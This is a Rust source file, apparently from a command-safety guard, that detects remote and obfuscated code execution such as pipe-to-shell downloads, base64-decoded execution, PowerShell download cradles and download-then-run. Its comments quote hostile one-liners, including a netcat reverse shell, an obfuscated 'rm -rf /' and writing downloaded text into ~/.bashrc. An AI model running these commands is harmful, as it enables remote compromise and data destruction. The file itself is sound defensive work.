//! Remote code execution and decoded execution: downloaded or decoded text piped into an
//! interpreter (`curl .. | sh`, `base64 -d | bash`), literal text changed by any filter on its
//! way into one (`echo 'eq -pe v/' | tr eqv rmf | sh`: obfuscated execution), interpreters fed
//! a process substitution
//! (`bash <(curl ..)`), `eval`/`sh -c` of a download (`eval "$(curl ..)"`), and command words
//! that are not literal (`$(echo rm)`, `` `x` ``, `$IFS` tricks; a plain `$CMD` warns).
//! PowerShell's download cradles (`iwr URL | iex`, `powershell -c "irm URL | iex"`) are the
//! same thing, as is a PowerShell script handed over base64-encoded (`pwsh -enc ..`: nobody
//! read it; what it decodes to is judged too), inline programs that exec/eval what they
//! fetch (`python -c "exec(urlopen(..).read())"`, `node -e "fetch(..).then(eval)"`, any
//! interpreter's code that evaluates a web address: `Rscript -e 'source("http://..")'`), and a shell piped into
//! `nc` (a reverse shell), and a file a downloader wrote run later in the line by any means
//! (`download_execute`: `curl -o x.sh URL; sh x.sh`, `wget URL -O /dev/shm/x; nohup
//! /dev/shm/x`). "Run" is one reading ([`files_run`]): the script an interpreter is named, the
//! command file of a program with a shell escape, a makefile or awk/sed program file, a
//! package file installed (its scripts run), and what a variable loads into every program
//! the command starts (`BASH_ENV`, `PYTHONSTARTUP`, `LD_PRELOAD`, `NODE_OPTIONS=--require`,
//! `RUBYOPT=-r`, `-javaagent:`); a process substitution handed over any of these ways is
//! judged as `bash <(..)` is. A DNS lookup's answer is downloaded text (a TXT record holds
//! anything). Warned: packages run straight from a URL (`npx https://..`, `deno run -A
//! https://..`: `url_package`), and `untrusted_source`: a package index or registry over plain http to a
//! non-local host (`pip install --index-url http://203.0.113.5/simple`, `npm config set
//! registry http://..`), where anyone on the path can swap the code.

use super::{block, warn, FETCHERS};
use crate::guard::carriers::{self, is_shell};
use crate::guard::verdict::{Category, Risk, Violation};
use crate::guard::{basename, GuardContext, Pipeline, SimpleCommand};

pub const PIPE_TO_SHELL: &str = "remote_execution.pipe_to_shell";
pub const PROCESS_SUBSTITUTION: &str = "remote_execution.process_substitution";
pub const UNTRUSTED_SOURCE: &str = "remote_execution.untrusted_source";
pub const EVAL_DOWNLOAD: &str = "remote_execution.eval_download";
pub const DYNAMIC_COMMAND: &str = "remote_execution.dynamic_command";
pub const DOWNLOAD_EXECUTE: &str = "remote_execution.download_execute";
pub const URL_PACKAGE: &str = "remote_execution.url_package";
pub const HIDDEN_SCRATCH_PROGRAM: &str = "remote_execution.hidden_scratch_program";

pub fn alternative(rule: &str) -> &'static str {
    match rule {
        DYNAMIC_COMMAND => "write the command word literally (rm, not $(echo rm) or $CMD)",
        UNTRUSTED_SOURCE => "install from the project's https index (https://pypi.org/simple, https://registry.npmjs.org)",
        _ => "download to a file in the workspace, read it, then run it explicitly (curl -o install.sh URL; less install.sh)",
    }
}

/// Interpreters that run a program read from stdin when given no script.
fn interpreter(name: &str) -> bool {
    is_shell(name)
        || name.starts_with("python")
        || matches!(
            name,
            "perl"
                | "ruby"
                | "node"
                | "php"
                | "lua"
                | "source"
                | "."
                | "pwsh"
                | "deno"
                | "bun"
                | "iex"
                | "Invoke-Expression"
                // Languages whose interpreter runs the script file it is named, or its stdin.
                | "tclsh"
                | "wish"
                | "expect"
                | "R"
                | "Rscript"
                | "julia"
                | "groovy"
                | "elixir"
                | "octave"
                | "octave-cli"
                | "guile"
                | "racket"
                | "runghc"
                | "runhaskell"
                | "clisp"
                | "sbcl"
                // A root shell (`sudo -s`, `sudo bash`), kept whole by unwrap_command.
                | "sudo"
                | "doas"
                | "pkexec"
                | "run0"
        )
}

/// Whether an interpreter reads its program from stdin (no script argument, or `-`, `-s`).
fn reads_stdin(cmd: &SimpleCommand) -> bool {
    let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
    // A root shell kept whole reads its commands; `xargs sudo --` reads its arguments.
    if carriers::is_root_wrapper(cmd.name()) {
        return !cmd.args_from_stdin;
    }
    if args.iter().any(|a| *a == "-" || *a == "-s" || *a == "/dev/stdin") {
        return true;
    }
    // `-c`/`-e`/`-m` give the program another way.
    if args
        .iter()
        .any(|a| matches!(*a, "-c" | "-e" | "-m" | "-E" | "-r" | "--eval" | "-p"))
    {
        return false;
    }
    !args.iter().any(|a| !a.starts_with('-'))
}

/// Whether `cmd` prints what it reads from the network: a fetcher, or `openssl s_client`
/// (a TLS socket: what the server sends comes out).
fn fetcher(cmd: &SimpleCommand) -> bool {
    let name = cmd.name();
    FETCHERS.contains(&name)
        || (name == "openssl" && cmd.argv.get(1).is_some_and(|s| s == "s_client"))
        || unknown_network_client(cmd)
}

/// `zorp get https://host/x.sh`, `zorp 10.0.0.1 4444`, `zorp --connect host.example:4444`: a
/// program the guard knows nothing of, handed a network address, is taken to bring in what
/// it reads from there (what else it does is unknown, and this is the dangerous reading).
fn unknown_network_client(cmd: &SimpleCommand) -> bool {
    // `tool completion bash --server URL`, `tool init zsh --config URL`: a shell integration
    // prints the program's own code, whatever address it is configured with.
    let integration = cmd.argv.iter().skip(1).find(|a| !a.starts_with('-')).is_some_and(|s| {
        matches!(
            s.as_str(),
            "completion" | "completions" | "init" | "env" | "shellenv" | "hook" | "activate"
        )
    });
    // Cheap first: an address has a `:` (`scheme://`, `host:port`) or a port of its own.
    let may_name_address = cmd
        .argv
        .iter()
        .skip(1)
        .any(|a| a.contains(':') || (!a.is_empty() && a.len() <= 5 && a.bytes().all(|b| b.is_ascii_digit())));
    may_name_address && !integration && names_network_address(cmd) && crate::guard::effects::runs_unknown_program(cmd)
}

/// Whether a word of `cmd` names a place on the network: a URL, a host and port
/// (`10.0.0.1:4444`, `tcp:host.example:443`), or an IPv4 address followed by a port.
pub(super) fn names_network_address(cmd: &SimpleCommand) -> bool {
    names_address(cmd, true)
}

/// Whether a word of `cmd` names a host and port to open a socket to (`10.0.0.1 4444`,
/// `host.example:443`, `tcp:..`), not a URL.
pub(super) fn names_socket_address(cmd: &SimpleCommand) -> bool {
    names_address(cmd, false)
}

/// Whether a word of `cmd` names a place on the network ([`names_network_address`]), URLs
/// counted only when `urls`.
fn names_address(cmd: &SimpleCommand, urls: bool) -> bool {
    // An operand, or the value of an option that names what to reach (`--url`, `--connect`);
    // the value of another option is a setting (`--cache-url http://cache:8080`).
    let reaches = |o: &str| {
        matches!(
            o.trim_start_matches('-'),
            "u" | "url"
                | "uri"
                | "c"
                | "connect"
                | "s"
                | "server"
                | "remote"
                | "host"
                | "h"
                | "source"
                | "src"
                | "from"
                | "i"
                | "input"
                | "target"
                | "t"
                | "addr"
                | "address"
                | "endpoint"
        )
    };
    cmd.argv.iter().skip(1).enumerate().any(|(i, a)| {
        let value = match a.split_once('=') {
            Some((k, v)) if k.starts_with('-') => reaches(k).then_some(v),
            _ if a.starts_with('-') => None,
            _ if i > 0 && cmd.argv[i].starts_with('-') && !cmd.argv[i].contains('=') && !reaches(&cmd.argv[i]) => None,
            _ => Some(a.as_str()),
        };
        let Some(value) = value else { return false };
        let port_next = || cmd.argv.get(i + 2).is_some_and(|p| port_number(p));
        (urls && network_url(value))
            || endpoint(value)
            || (port_next() && (ipv4(value) || hostname(value) || ipv6(value)))
    })
}

/// `https://host/x`, `ftp://..`, `tcp://..`: an address of something fetched over the network
/// (`file://` is a local file).
fn network_url(word: &str) -> bool {
    word.split_once("://").is_some_and(|(scheme, rest)| {
        !rest.is_empty()
            && matches!(
                scheme.to_ascii_lowercase().as_str(),
                "http"
                    | "https"
                    | "ftp"
                    | "ftps"
                    | "tftp"
                    | "sftp"
                    | "gopher"
                    | "tcp"
                    | "udp"
                    | "ssl"
                    | "tls"
                    | "ws"
                    | "wss"
            )
    })
}

/// `10.0.0.1:4444`, `tcp:10.0.0.1:4444`, `host.example:4444`: a host and a port.
fn endpoint(word: &str) -> bool {
    let word = ["tcp:", "tcp4:", "tcp6:", "ssl:", "openssl:", "udp:"]
        .iter()
        .find_map(|p| word.strip_prefix(p))
        .unwrap_or(word);
    // `[2001:db8::1]:4444`: an IPv6 host takes brackets before its port.
    word.rsplit_once(':').is_some_and(|(host, port)| {
        port_number(port) && (ipv4(host) || hostname(host) || (host.starts_with('[') && ipv6(host)))
    })
}

/// `relay.example.net`: labels of letters, digits and dashes joined by dots, the last one
/// letters.
fn hostname(word: &str) -> bool {
    word.contains('.')
        && word
            .split('.')
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
        && word
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
}

/// `2001:db8::1`, `[fe80::1]`: an IPv6 address (hex groups joined by colons, `::` at most
/// once), in brackets or not.
fn ipv6(word: &str) -> bool {
    let w = word.strip_prefix('[').and_then(|w| w.strip_suffix(']')).unwrap_or(word);
    w.len() >= 3
        && w.len() <= 39
        && w.matches(':').count() >= 2
        && w.matches("::").count() <= 1
        && w.bytes().all(|b| b.is_ascii_hexdigit() || b == b':')
        && w.split(':').all(|g| g.len() <= 4)
}

/// `10.0.0.1`: four numbers below 256 joined by dots.
fn ipv4(word: &str) -> bool {
    word.len() <= 15
        && word.split('.').count() == 4
        && word
            .split('.')
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u16>().is_ok_and(|n| n < 256))
}

/// A TCP or UDP port number.
pub(super) fn port_number(word: &str) -> bool {
    !word.is_empty() && word.len() <= 5 && word.parse::<u32>().is_ok_and(|n| (1..=65535).contains(&n))
}

/// Decoders whose output is hidden text.
fn decoder(cmd: &SimpleCommand) -> bool {
    let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
    match cmd.name() {
        "base64" | "base32" | "basenc" => args
            .iter()
            .any(|a| *a == "-d" || *a == "--decode" || *a == "-D" || a.starts_with("-d")),
        "xxd" => args.iter().any(|a| a.starts_with("-r")),
        "openssl" => args.iter().any(|a| *a == "-d" || *a == "base64" || *a == "enc"),
        "rev" | "gunzip" | "zcat" | "bunzip2" | "xz" | "unxz" | "uudecode" | "gzip" | "zstd" => true,
        "tr" => args
            .iter()
            .any(|a| a.contains("a-z") || a.contains("A-Z") || a.contains("n-z")),
        "printf" | "echo" => {
            args.iter()
                .any(|a| a.contains("\\x") || a.contains("\\0") || a.contains("\\1"))
                || args.contains(&"-e")
        }
        _ => false,
    }
}

/// Whether `cmd` prints text encoded to be unreadable (`base64 -d`, `xxd -r`, `openssl enc
/// -d`, `rev`, a rot13 `tr`, printf's `\x72` bytes): a [`decoder`] that is not a decompressor
/// (`zcat dump.sql.gz | psql` restores a dump) nor `echo -e` of plain text.
fn hides_text(cmd: &SimpleCommand) -> bool {
    let compression = matches!(
        cmd.name(),
        "gunzip" | "zcat" | "bunzip2" | "bzcat" | "xz" | "unxz" | "xzcat" | "gzip" | "zstd" | "zstdcat"
    );
    let plain_print = matches!(cmd.name(), "echo" | "printf")
        && !cmd.argv[1..]
            .iter()
            .any(|a| a.contains("\\x") || a.contains("\\0") || a.contains("\\1"));
    decoder(cmd) && !compression && !plain_print
}

/// `cat x.dat | $cmd`: a program hidden in a variable the line gives no value (`fmt=black;
/// .. | $fmt` is black) is a decoder nobody can read.
fn hidden_program(cmd: &SimpleCommand) -> bool {
    cmd.dynamic_name && cmd.argv.first().is_some_and(|w| w.contains(['$', '`']))
}

pub fn check(pipeline: &Pipeline, index: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cmd = &pipeline[index];
    let r = Category::RemoteExecution;
    dynamic(cmd, out);
    hidden_scratch_program(cmd, ctx, out);
    substituted_code(cmd, out);
    untrusted_source(cmd, out);
    // `curl URL >> ~/.bashrc`, `wget -qO- URL | tee -a ~/.zshrc`, `curl -o ~/.profile URL`:
    // text nobody read, written where every new shell runs it (a copy of one's own dotfiles
    // from another machine, `scp host:.bashrc ~/`, is the persistence rule's to warn).
    let fetched = pipeline[..=index].iter().any(fetcher);
    let downloaded = match cmd.name() {
        "scp" | "rsync" => None,
        _ => downloaded_files(cmd),
    };
    let startup = written_with_output(cmd)
        .into_iter()
        .filter(|_| fetched)
        .chain(downloaded.unwrap_or_default())
        .find(|f| crate::guard::targets::startup_file(f));
    if let Some(file) = startup {
        out.push(block(
            r,
            DOWNLOAD_EXECUTE,
            Risk::Critical,
            cmd,
            format!("writes text downloaded from the network into `{file}`, which every new shell runs"),
        ));
        return;
    }
    let name = cmd.name();
    // `python -c "exec(urlopen(URL).read())"`, `node -e "fetch(URL).then(r=>r.text()).then(eval)"`:
    // an inline program that runs code it downloads.
    // Any interpreter's inline program that names a web address and evaluates code (`Rscript
    // -e 'source("http://..")'`, `julia -e 'include(download(URL))'`, `groovy -e
    // 'evaluate(new URL(..).text)'`) runs what it fetches too.
    let inline = interpreter(name) && !is_shell(name);
    if inline
        && cmd.argv.iter().skip(1).any(|code| {
            // An evaluator as a word of its own: not `resource(`, `ast.literal_eval(`.
            let evaluates = [
                "eval(",
                "evaluate(",
                "source(",
                "include(",
                "primitive-eval",
                "load_string",
                "Code.eval_string",
            ]
            .iter()
            .any(|e| calls(code, e));
            let names_address = code.contains("http://") || code.contains("https://");
            if names_address && evaluates {
                return true;
            }
            let fetches = [
                "urlopen",
                "requests.get",
                "fetch(",
                "http.get",
                "https.get",
                "Net::HTTP",
                "open-uri",
                "LWP::",
                "file_get_contents(\"http",
                "URI.open",
                "urllib",
            ]
            .iter()
            .any(|f| code.contains(f));
            let runs = ["exec(", "eval(", "eval)", "eval ", "instance_eval", "Function("]
                .iter()
                .any(|e| calls(code, e));
            fetches && runs
        })
    {
        out.push(block(
            r,
            EVAL_DOWNLOAD,
            Risk::Critical,
            cmd,
            format!("{name} runs code it downloads"),
        ));
        return;
    }
    // `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: a shell whose input and output go
    // through a network connection.
    if is_shell(name)
        && pipeline[index + 1..]
            .iter()
            .any(|c| matches!(c.name(), "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"))
    {
        out.push(block(
            r,
            PIPE_TO_SHELL,
            Risk::Critical,
            cmd,
            "a shell's output is piped to a network connection (a reverse shell)",
        ));
        return;
    }
    powershell(cmd, out);
    url_package(cmd, out);
    // `curl .. | ed f`, `base64 -d x | sqlite3 db`, `printf '\x21..' | ftp`: a program whose
    // own commands have a shell escape, fed text nobody read before it runs.
    if index > 0 && !cmd.args_from_stdin && carriers::reads_escape_commands(cmd) {
        let upstream = &pipeline[..index];
        let source = if upstream.iter().any(fetcher) {
            Some("downloaded from the network")
        } else if upstream.iter().any(hides_text) || carriers::disguised_literal(pipeline, index).is_some() {
            Some("decoded or disguised on its way")
        } else {
            None
        };
        if let Some(source) = source {
            out.push(block(
                r,
                PIPE_TO_SHELL,
                Risk::Critical,
                cmd,
                format!("feeds {name}, whose commands have a shell escape, text {source}"),
            ));
            return;
        }
    }
    // `curl .. | make -f -`, `wget -O- .. | awk -f /dev/stdin`: a program told by an option to
    // read the script it runs from stdin is an interpreter there.
    let program_on_stdin = crate::guard::effects::reads_script_from_stdin(cmd);
    if interpreter(name) || program_on_stdin {
        // Piped into an interpreter that reads its program from stdin, or a download fed on
        // stdin (`source /dev/stdin <<< "$(curl ..)"`).
        let upstream = &pipeline[..index];
        let fed_download = cmd
            .stdin_text
            .as_ref()
            .is_some_and(|t| t.contains("$(") && FETCHERS.iter().any(|f| mentions(t, f)));
        let reads_program = program_on_stdin || reads_stdin(cmd);
        if reads_program && (fed_download || upstream.iter().any(fetcher)) {
            out.push(block(
                r,
                PIPE_TO_SHELL,
                Risk::Critical,
                cmd,
                format!("runs text downloaded from the network with {name}"),
            ));
            return;
        }
        if index > 0 && reads_program {
            // `echo 'eq -pe v/' | tr eqv rmf | sh`, `rev <<< '/ fr- mr' | bash`: a literal
            // changed on its way into the interpreter hides what it runs (what it computes to,
            // where that is plain, is judged as a script of its own too).
            let disguised = (!cmd.args_from_stdin)
                .then(|| carriers::disguised_literal(pipeline, index))
                .flatten();
            if let Some(by) = disguised {
                out.push(block(
                    r,
                    PIPE_TO_SHELL,
                    Risk::Critical,
                    cmd,
                    format!("runs literal text disguised by `{by}` with {name} (obfuscated execution)"),
                ));
                return;
            }
            if upstream.iter().any(|u| decoder(u) || hidden_program(u)) {
                out.push(block(
                    r,
                    PIPE_TO_SHELL,
                    Risk::Critical,
                    cmd,
                    format!("runs decoded (hidden) text with {name}"),
                ));
                return;
            }
            if is_shell(name) || carriers::is_root_wrapper(name) {
                out.push(warn(r, PIPE_TO_SHELL, cmd, format!("runs text piped into {name}")));
                return;
            }
        }
        // `bash <(curl ..)`, `source <(..)`; `bash <(cat setup.sh)` is `bash setup.sh`.
        for a in cmd.argv.iter().skip(1) {
            if a.starts_with("<(") && !reads_files(a) {
                if FETCHERS.iter().any(|f| mentions(a, f)) || decodes(a) {
                    out.push(block(
                        r,
                        PROCESS_SUBSTITUTION,
                        Risk::Critical,
                        cmd,
                        format!("runs downloaded or decoded text with {name}"),
                    ));
                } else {
                    out.push(warn(
                        r,
                        PROCESS_SUBSTITUTION,
                        cmd,
                        format!("runs the output of a command with {name}"),
                    ));
                }
                return;
            }
        }
    }
    // `eval "$(curl ..)"`, `sh -c "$(wget -O- ..)"`, `python -c "$(curl ..)"`.
    let runs_text = name == "eval" || (interpreter(name) && cmd.argv.iter().any(|a| a == "-c" || a == "-e"));
    if runs_text {
        for a in cmd.argv.iter().skip(1) {
            if a.contains("$(") || a.contains('`') {
                if FETCHERS.iter().any(|f| mentions(a, f)) || decodes(a) {
                    out.push(block(
                        r,
                        EVAL_DOWNLOAD,
                        Risk::Critical,
                        cmd,
                        "runs downloaded or decoded text",
                    ));
                    return;
                }
                if name == "eval" && !benign_eval(a) {
                    out.push(warn(r, EVAL_DOWNLOAD, cmd, "evaluates the output of a command"));
                    return;
                }
            }
        }
    }
}

/// PowerShell download cradles: `powershell -c "iwr URL | iex"`, `IEX (New-Object
/// Net.WebClient).DownloadString(URL)`.
fn powershell(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    if !matches!(cmd.name(), "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe") {
        return;
    }
    // `pwsh -enc JABj..`: a script nobody can read before it runs, whatever it decodes to
    // (what it decodes to is carried and judged as well).
    if let Some(script) = carriers::powershell_encoded_script(&cmd.argv) {
        let shown = match script {
            Some(s) => format!(": `{}`", s.chars().take(120).collect::<String>()),
            None => String::new(),
        };
        out.push(block(
            Category::RemoteExecution,
            EVAL_DOWNLOAD,
            Risk::Critical,
            cmd,
            format!("PowerShell runs a base64-encoded script nobody read before it runs{shown}"),
        ));
        return;
    }
    let text = cmd.argv[1..].join(" ").to_ascii_lowercase();
    let runs = ["iex", "invoke-expression"].iter().any(|w| mentions(&text, w));
    let fetches = ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "curl", "wget"]
        .iter()
        .any(|w| mentions(&text, w))
        || text.contains("downloadstring")
        || text.contains("net.webclient");
    if runs && fetches {
        out.push(block(
            Category::RemoteExecution,
            EVAL_DOWNLOAD,
            Risk::Critical,
            cmd,
            "PowerShell runs text downloaded from the network",
        ));
    }
}

/// Whether `code` names `needle` as a word of its own: not inside a longer name (`resource(`
/// is not `source(`, `ast.literal_eval(` not `eval(`).
fn calls(code: &str, needle: &str) -> bool {
    code.match_indices(needle).any(|(at, _)| {
        !code[..at]
            .chars()
            .next_back()
            .is_some_and(|c| c.is_alphanumeric() || c == '_')
    })
}

/// `remote_execution.url_package`: `npx https://..`, `npx github:user/repo`, `deno run -A
/// https://..`: code from a URL (not a registry package) runs at once.
fn url_package(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let args: Vec<&str> = cmd.argv.iter().skip(1).map(String::as_str).collect();
    let spec = match cmd.name() {
        "npx" | "bunx" => args.iter().find(|a| !a.starts_with('-')),
        "pnpm" | "yarn" if args.first() == Some(&"dlx") => args.iter().skip(1).find(|a| !a.starts_with('-')),
        "npm" if args.first() == Some(&"exec") => args.iter().skip(1).find(|a| !a.starts_with('-')),
        // `deno run -A https://..`: Deno confines a script to the permissions it is given; with
        // none it reaches nothing, with any it is code from a URL acting here.
        "deno" if args.first() == Some(&"run") && args.iter().any(|a| *a == "-A" || a.starts_with("--allow-")) => args
            .iter()
            .skip(1)
            .find(|a| a.starts_with("http://") || a.starts_with("https://")),
        _ => None,
    };
    let Some(spec) = spec else { return };
    let remote = [
        "http://",
        "https://",
        "github:",
        "gist:",
        "git+",
        "git://",
        "gitlab:",
        "bitbucket:",
    ]
    .iter()
    .any(|p| spec.starts_with(p))
        || spec.ends_with(".git");
    if remote {
        out.push(warn(
            Category::RemoteExecution,
            URL_PACKAGE,
            cmd,
            format!("runs code fetched from `{spec}`, not a registry package"),
        ));
    }
}

/// `remote_execution.download_execute`: a file a downloader wrote earlier in the line is run
/// later in it by any means (a downloader: curl, wget, aria2c, or scp/rsync from another
/// machine) — as the command word (`./x.sh`, `/tmp/x`, `nohup /dev/shm/x`,
/// `sudo ./x`), by a shell or an interpreter (`sh x.sh --dry-run`, `bash /var/tmp/.x.sh`,
/// `python3 x.py`), or sourced (`. ./env.sh`). That is code from the network run without
/// anyone reading it, like `curl .. | sh`: blocked. A file is the downloader's whether it
/// names it (`curl -o F`) or its output is sent there (`curl URL > F`, `wget -qO- URL | tee
/// F`, `.. | gunzip > F`).
///
/// `remote_execution.pipe_to_shell`: a file written from decoded text (`base64 -d > F`, `xxd
/// -r -p > F`, `openssl enc -d -out F`) and run later in the line is that text piped to the
/// runner, obfuscated execution: blocked like `base64 -d | sh`.
pub fn download_then_run(pipelines: &[Pipeline], out: &mut Vec<Violation>) {
    let mut unread: Vec<(String, Unread)> = Vec::new();
    for pipeline in pipelines {
        for (i, cmd) in pipeline.iter().enumerate() {
            if let Some(files) = downloaded_files(cmd) {
                let cwd = cmd.cwd.as_deref();
                unread.extend(files.into_iter().map(|f| (as_file(&f, cwd), Unread::Downloaded)));
            }
            // What this stage prints comes from a download or a decoder at or before it (a
            // download first: `wget -qO- .. | gunzip` is still the network's).
            // A program hidden in a variable, fed text (`cat x.dat | $cmd > x.sh`, `$dec <
            // x.dat`), is a decoder nobody can read; one that makes its own output (`$PYTHON
            // gen.py > out.sh`) is a generator like any other.
            let upstream = &pipeline[..=i];
            let hidden = |(k, c): (usize, &SimpleCommand)| hidden_program(c) && (k > 0 || !c.inputs.is_empty());
            let source = if upstream.iter().any(fetcher) {
                Some(Unread::Downloaded)
            } else {
                (upstream.iter().any(hides_text) || upstream.iter().enumerate().any(hidden)).then_some(Unread::Decoded)
            };
            let cwd = cmd.cwd.as_deref();
            if let Some(source) = source {
                if !cmd.upstream_copy {
                    unread.extend(written_with_output(cmd).into_iter().map(|f| (as_file(&f, cwd), source)));
                }
            }
            if unread.is_empty() || cmd.upstream_copy {
                continue;
            }
            let is_unread = |f: &str| unread.iter().find(|(d, _)| *d == as_file(f, cwd)).map(|(_, how)| *how);
            let args = &cmd.argv[1.min(cmd.argv.len())..];
            // `cp i.sh j.sh`, `mv i.sh /tmp/j`: the copy holds the same unread text.
            if matches!(cmd.name(), "cp" | "mv" | "install" | "ln") {
                let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
                if let Some((dest, sources)) = operands.split_last() {
                    if let Some(how) = sources.iter().find_map(|s| is_unread(s)) {
                        unread.push((as_file(dest, cwd), how));
                    }
                }
                continue;
            }
            // `gcc /tmp/pk.c -o /tmp/pk`: a program built from unread source is as unread.
            if matches!(
                crate::guard::unversioned(cmd.name()),
                "gcc" | "cc" | "clang" | "g++" | "c++" | "clang++" | "tcc" | "rustc" | "gfortran" | "nasm" | "as"
            ) {
                let sources: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
                if let Some(how) = sources.iter().find_map(|s| is_unread(s)) {
                    // `-o pk`, `-opk`, `--output=pk`; by default `a.out`, or for rustc the
                    // source's stem (`rustc pk.rs` builds `pk`).
                    let glued = args
                        .iter()
                        .find_map(|a| a.strip_prefix("-o").filter(|v| !v.is_empty() && !v.starts_with('-')));
                    let stem = sources
                        .first()
                        .and_then(|s| s.rsplit('/').next())
                        .map(|f| f.rsplit_once('.').map_or(f, |(stem, _)| stem))
                        .unwrap_or("a.out");
                    let default = if cmd.name() == "rustc" { stem } else { "a.out" };
                    let built = crate::guard::carriers::option_value(&cmd.argv, &["-o", "--output"], "")
                        .or(glued)
                        .unwrap_or(default);
                    unread.push((as_file(built, cwd), how));
                }
                continue;
            }
            let Some((f, how)) = files_run(cmd).into_iter().find_map(|f| Some((f, is_unread(f)?))) else {
                continue;
            };
            out.push(match how {
                Unread::Downloaded => block(
                    Category::RemoteExecution,
                    DOWNLOAD_EXECUTE,
                    Risk::Critical,
                    cmd,
                    format!("runs `{f}`, downloaded in the same command without being read"),
                ),
                Unread::Decoded => block(
                    Category::RemoteExecution,
                    PIPE_TO_SHELL,
                    Risk::Critical,
                    cmd,
                    format!("runs `{f}`, written from decoded text in the same command (obfuscated execution)"),
                ),
            });
            return;
        }
    }
}

/// The files `cmd` runs: its command word when that is a path, the script an interpreter is
/// named (any of its words: `bash -o errexit i.sh`) or fed (`sh < i.sh`), the command files of
/// a program whose commands have a shell escape (`ed f < i.txt`, `psql -f i.sql`, `gdb -x
/// i.gdb`). None for `bash -n x.sh`, `sh -n x.sh`: the shell reads the script for syntax and
/// runs none of it.
fn files_run(cmd: &SimpleCommand) -> Vec<&str> {
    let args = &cmd.argv[1.min(cmd.argv.len())..];
    let syntax_check = is_shell(cmd.name())
        && args
            .iter()
            .take_while(|a| a.starts_with('-'))
            .any(|a| a == "-n" || a == "--noexec");
    let mut files: Vec<&str> = if syntax_check {
        Vec::new()
    } else if interpreter(cmd.name()) {
        script_operand(args)
            .into_iter()
            .chain(cmd.inputs.iter())
            .map(String::as_str)
            .collect()
    } else if carriers::has_shell_escape(cmd.name()) {
        command_files(cmd).into_iter().map(String::as_str).collect()
    } else {
        let program = cmd.argv.first().filter(|w| w.contains('/')).map(String::as_str);
        // `cp pk /tmp/q && /tmp/q`: the walker reads the copy as what it copied (`pk`); the
        // word run is the file written.
        let written = cmd.name_as_written.as_deref().filter(|w| w.contains('/'));
        program
            .into_iter()
            .chain(written)
            .chain(crate::guard::effects::script_option_files(cmd))
            .collect()
    };
    files.extend(loaded_by_variables(cmd));
    files.extend(installed_package_files(cmd));
    files
}

/// The package files an install runs the scripts of (`dpkg -i x.deb`, `rpm -U x.rpm`, `apt
/// install ./x.deb`, `pip install x.tar.gz`, `npm install x.tgz`): a package's maintainer,
/// setup or lifecycle scripts run as it is installed, so installing the file runs it.
fn installed_package_files(cmd: &SimpleCommand) -> Vec<&str> {
    const PACKAGE_FILES: &[&str] = &[
        ".deb",
        ".rpm",
        ".apk",
        ".tar.gz",
        ".tgz",
        ".zip",
        ".pkg.tar.zst",
        ".pkg.tar.xz",
        ".snap",
        ".gem",
        ".pkg",
        ".mpkg",
        ".txz",
        ".msi",
    ];
    let args = &cmd.argv[1.min(cmd.argv.len())..];
    let has = |words: &[&str]| args.iter().any(|a| words.contains(&a.as_str()));
    let installs = match cmd.name() {
        "dpkg" => has(&["-i", "--install", "--unpack"]),
        "rpm" => has(&["-i", "-U", "-F", "--install", "--upgrade", "--freshen"]),
        "pacman" => has(&["-U", "--upgrade"]),
        "apk" | "yarn" | "pnpm" => has(&["add"]),
        "apt" | "apt-get" | "yum" | "dnf" | "zypper" | "pip" | "pip3" | "pipx" | "uv" | "npm" | "gem" | "snap" => {
            has(&["install", "localinstall", "i", "in"])
        }
        "gdebi" | "alien" => true,
        // macOS's `installer -pkg F -target /`, FreeBSD's `pkg add F` / `pkg install ./F`.
        "installer" => has(&["-pkg", "-package"]),
        "pkg" => has(&["add", "install"]),
        _ => false,
    };
    if !installs {
        return Vec::new();
    }
    args.iter()
        .filter(|a| !a.starts_with('-') && PACKAGE_FILES.iter().any(|x| a.ends_with(x)))
        .map(String::as_str)
        .collect()
}

/// The files a program loads as code at its start because a variable of its environment
/// says so: the shell's `BASH_ENV` and `ENV` and Python's `PYTHONSTARTUP` (a script run
/// first), the dynamic loader's `LD_PRELOAD` and `LD_AUDIT` (libraries mapped in before
/// anything), Node's `NODE_OPTIONS` (`--require`, `-r`, `--import`, `--loader`), Ruby's
/// `RUBYOPT` (`-r FILE`) and the JVM's option variables (`-javaagent:JAR`, `-agentpath:LIB`).
/// The variable reaches every program the command starts (`NODE_OPTIONS=.. npm test` loads
/// it into the tests' node), so these are files the command runs whatever its name.
fn loaded_by_variables(cmd: &SimpleCommand) -> Vec<&str> {
    let mut files = Vec::new();
    for assignment in &cmd.assignments {
        let Some((name, value)) = assignment.split_once('=') else {
            continue;
        };
        match name {
            "BASH_ENV" | "ENV" | "PYTHONSTARTUP" => files.push(value),
            "LD_PRELOAD" | "LD_AUDIT" => files.extend(value.split([':', ' ']).filter(|f| !f.is_empty())),
            "NODE_OPTIONS" | "RUBYOPT" => {
                let valued: &[&str] = if name == "RUBYOPT" {
                    &["-r", "--require"]
                } else {
                    &["-r", "--require", "--import", "--loader", "--experimental-loader"]
                };
                let words: Vec<&str> = value.split_whitespace().collect();
                for (k, w) in words.iter().enumerate() {
                    if valued.contains(w) {
                        files.extend(words.get(k + 1));
                    } else if let Some(v) = valued.iter().find_map(|o| {
                        let rest = w.strip_prefix(o)?;
                        // `-r/tmp/x.rb` and `--require=/tmp/x.js`; `--import` is not `-i..`.
                        if o.starts_with("--") {
                            rest.strip_prefix('=')
                        } else {
                            Some(rest)
                        }
                    }) {
                        files.extend((!v.is_empty()).then_some(v));
                    }
                }
            }
            "JAVA_TOOL_OPTIONS" | "_JAVA_OPTIONS" | "JDK_JAVA_OPTIONS" => files.extend(
                value
                    .split_whitespace()
